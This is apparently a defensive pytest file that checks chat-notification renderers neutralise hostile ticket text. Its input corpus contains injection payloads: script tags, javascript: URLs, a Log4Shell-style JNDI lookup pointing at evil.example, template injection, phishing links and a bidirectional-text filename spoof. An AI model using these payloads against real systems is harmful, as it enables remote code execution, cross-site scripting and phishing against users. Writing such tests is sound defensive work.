"""One hostile corpus through every renderer: nothing mentions everyone, forges a link or markup, hides
text, or breaks a platform limit; the ticket's own https link is the only link.

Every text field of the event (subject, comment, names, status, priority, number, change values)
carries the whole corpus; the subject is over 10,000 characters.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from typing import Any

import pytest

from tms_console.domain.events import TicketEvent
from tms_console.domain.messages import RenderedMessage
from tms_console.domain.sample_events import SAMPLE_EVENTS
from tms_console.providers.registry import HOOKS
from tms_console.providers.render.text import utf16_length

URL = "https://tms.example.com/t/northwind/tickets/1042"
CORPUS = " ".join(
    [
        "<!channel> <!here> <!everyone> <@U024BE7LH> <#C024BE7LR> <https://evil.example|click me>",
        "@everyone @here @channel <@&123456789012345678> <@123456789012345678> <#123456789012345678>",
        "[click](https://evil.example/a) [x](javascript:alert(1)) ![img](https://evil.example/i.png)",
        "**bold** __u__ ~~s~~ ||spoiler|| `code` ```block``` > quote # heading",
        '<b>bold</b><a href="https://evil.example">x</a><script>alert(1)</script>&amp; &lt;b&gt;',
        "<users/all> <users/123456789> {{ 7*7 }} ${jndi:ldap://evil.example/a}",
        "http://evil.example/p https://evil.example/phish ftp://evil.example tg://user?id=1 www.evil.example",
        "@support_lead mail carol@example.com",
        "\x00\x07\x1b[31m\x7f\u0085 \u202egnp.exe\u202c \u2066iso\u2069 \u200b\u200e\u200f\ufeff\u2028",
        "👩\u200d👩\u200d👧\u200d👦 🔥 ✓ ünï 日本",
    ]
)
HOSTILE_SUBJECT = CORPUS + " " + "S" * 10_000
INVISIBLE = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b\u200e\u200f\u202a-\u202e\u2028\u2029\u2066-\u2069\ufeff]"
)
LINK = re.compile(r"(?i)\b[a-z][a-z0-9+.-]*://|\bwww\.")
OURS = {URL, "http://adaptivecards.io/schemas/adaptive-card.json"}
PROVIDERS = ["slack", "discord", "msteams", "google_chat", "telegram", "whatsapp"]


def hostile_event(url: str = URL) -> TicketEvent:
    event = json.loads(json.dumps(SAMPLE_EVENTS["ticket.commented"]))
    ticket = event["ticket"]
    ticket |= {"subject": HOSTILE_SUBJECT, "status": CORPUS, "priority": CORPUS, "number": "1042 " + CORPUS}
    ticket["url"] = url
    ticket["assignee"]["name"] = event["actor"]["name"] = CORPUS
    event["changes"]["comment"]["body"] = (CORPUS + "\n") * 20 + "😀" * 3000
    return TicketEvent.from_dict(event)


def render(provider: str, url: str = URL) -> RenderedMessage:
    return HOOKS[provider].render_event(hostile_event(url), {})


def strings(value: Any) -> Iterator[str]:
    """Every string in a payload (Teams' card is a JSON string inside it: opened too)."""
    if isinstance(value, str):
        if value.startswith('{"$schema"'):
            yield from strings(json.loads(value))
        else:
            yield value
    elif isinstance(value, dict):
        for item in value.values():
            yield from strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from strings(item)


@pytest.mark.parametrize("provider", PROVIDERS)
def test_nothing_hidden_no_mass_mention_and_no_foreign_link_survives(provider: str) -> None:
    texts = list(strings(render(provider).payload))
    for text in texts:
        assert not INVISIBLE.search(text.replace("\n", "")), (provider, text[:80])
        ours = (f'<a href="{URL}">', f"<{URL}|Open ticket>")  # Telegram's and Google Chat's links
        links = LINK.findall(text.replace(ours[0], "").replace(ours[1], ""))
        assert text in OURS or not links, (provider, links)
        assert not re.search(r"(?i)(?<![\\\w])@(everyone|here|channel)\b", text), (provider, text[:200])
        # WhatsApp parameters and Teams' TextRuns are plain text: angle-bracket syntax means nothing there.
        if provider not in {"whatsapp", "msteams"}:
            assert "<users/all>" not in text and "<!channel>" not in text and "<!here>" not in text
    assert any("everyone" in text for text in texts)  # the words stay readable, harmless


@pytest.mark.parametrize("provider", PROVIDERS)
@pytest.mark.parametrize(
    "url",
    ["javascript:alert('marker')", "http://marker.example/t/1", "https://marker.example/a b", "data:,marker"],
)
def test_a_ticket_link_that_is_not_plain_https_is_dropped(provider: str, url: str) -> None:
    payload = json.dumps(render(provider, url).payload)
    assert "marker" not in payload and "Open ticket" not in payload


def test_slack_escapes_its_control_characters_everywhere_and_keeps_its_limits() -> None:
    payload = render("slack").payload
    for text in strings(payload):
        if text != URL:
            assert "<" not in text and ">" not in text
            assert re.fullmatch(r"(?:[^&]|&(?:amp|lt|gt);)*", text), text[:80]
    assert "&lt;!channel&gt;" in payload["blocks"][1]["text"]["text"]
    assert len(payload["blocks"][0]["text"]["text"]) <= 150 and len(payload["text"]) <= 3000
    assert len(payload["blocks"][1]["text"]["text"]) <= 3000
    assert all(len(field["text"]) <= 2000 for field in payload["blocks"][2]["fields"])


def test_discord_pings_nobody_and_escapes_markdown_within_embed_limits() -> None:
    payload = render("discord").payload
    assert payload["allowed_mentions"] == {"parse": []} and "content" not in payload
    (embed,) = payload["embeds"]
    user_texts = [embed["title"], embed["description"], embed["footer"]["text"]]
    user_texts += [field["value"] for field in embed["fields"]]
    for text in user_texts:
        assert not re.search(r"(?<!\\)[\[\]()<>*_~`|#@]", text.replace("\\\\", "")), text[:120]
    assert len(embed["title"]) <= 256 and len(embed["description"]) <= 4096
    assert (
        all(len(field["value"]) <= 1024 for field in embed["fields"]) and len(embed["footer"]["text"]) <= 2048
    )
    assert sum(len(text) for text in user_texts) + sum(len(f["name"]) for f in embed["fields"]) <= 6000
    assert embed["url"] == URL


def test_teams_user_text_only_in_plain_text_runs() -> None:
    payload = render("msteams").payload
    assert payload["body"]["content"] == '<attachment id="tms-ticket-card"></attachment>'
    card = json.loads(payload["attachments"][0]["content"])
    labels = {"New comment"}
    for block in card["body"]:
        assert block["type"] in {"TextBlock", "RichTextBlock"}
        if block["type"] == "TextBlock":
            assert block["text"] in labels  # markdown-capable blocks hold only our own words
        else:
            assert all(set(run) <= {"type", "text", "weight"} for run in block["inlines"])
    assert card["actions"] == [{"type": "Action.OpenUrl", "title": "Open ticket", "url": URL}]
    assert len(json.dumps(payload).encode()) < 28_000


def test_google_chat_escapes_card_html_and_has_no_angle_brackets_in_plain_text() -> None:
    payload = render("google_chat").payload
    card = payload["cardsV2"][0]["card"]
    plain, link = payload["text"].rsplit("\n", 1)
    assert link == f"<{URL}|Open ticket>"  # the one control sequence: ours
    for text in (plain, card["header"]["title"], card["header"]["subtitle"]):
        assert "<" not in text and ">" not in text
    for widget in card["sections"][0]["widgets"]:
        for text in [*strings(widget.get("textParagraph", {})), *strings(widget.get("decoratedText", {}))]:
            assert "<" not in text and ">" not in text
    assert "&lt;users/all&gt;" in card["sections"][0]["widgets"][0]["textParagraph"]["text"]
    assert len(json.dumps(payload, ensure_ascii=False).encode()) <= 32_000


def test_telegram_html_has_only_our_tags_and_fits_4096_utf16_units() -> None:
    text = render("telegram").payload["text"]
    assert re.findall(r"<[^>]*>", text) == ["<b>", "</b>", f'<a href="{URL}">', "</a>"]
    assert utf16_length(text) <= 4096
    assert "&lt;script&gt;" in text and "<script>" not in text
    # Telegram notifies a typed @username: the at sign is a fullwidth one, an e-mail address keeps its own.
    assert "\uff20support_lead" in text and "@support_lead" not in text and "carol@example.com" in text


def test_whatsapp_parameters_follow_the_template_rules() -> None:
    parameters = render("whatsapp").payload["template"]["components"][0]["parameters"]
    for parameter in parameters:
        text = parameter["text"]
        assert text and len(text) <= 200
        assert "\n" not in text and "\t" not in text and "     " not in text
    assert parameters[-1]["text"] == URL


def test_the_webhook_carries_the_text_as_json_data_unchanged() -> None:
    event = hostile_event()
    message = HOOKS["webhook"].render_event(event, {})
    assert json.loads(message.body()) == event.to_dict()
    assert json.loads(message.body())["ticket"]["subject"] == HOSTILE_SUBJECT
